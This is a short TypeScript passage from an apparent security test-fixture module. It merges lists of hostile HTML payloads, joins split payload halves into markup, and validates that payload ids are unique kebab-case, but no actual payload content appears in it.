export const ALL_PAYLOADS: readonly HostilePayload[] = [...PAYLOADS, ...SPLIT_PAYLOADS];

/** The markup a split payload forms when its halves are joined. */
export function joined(payload: HostilePayload): string {
  return payload.split ? payload.split.join('') : (payload.html ?? '');
}

/** Sanity: ids are unique kebab-case (the flag values). Throws on a bad list. */
export function assertPayloadIds(payloads: readonly HostilePayload[] = ALL_PAYLOADS): void {
  const seen = new Set<string>();
  for (const p of payloads) {
    if (!/^[a-z0-9]+(-[a-z0-9]+)*$/.test(p.id)) throw new Error(`bad payload id: ${p.id}`);
    if (seen.has(p.id)) throw new Error(`duplicate payload id: ${p.id}`);
    seen.add(p.id);
    if (!p.html && !p.split) throw new Error(`payload ${p.id} has no markup`);
  }
}
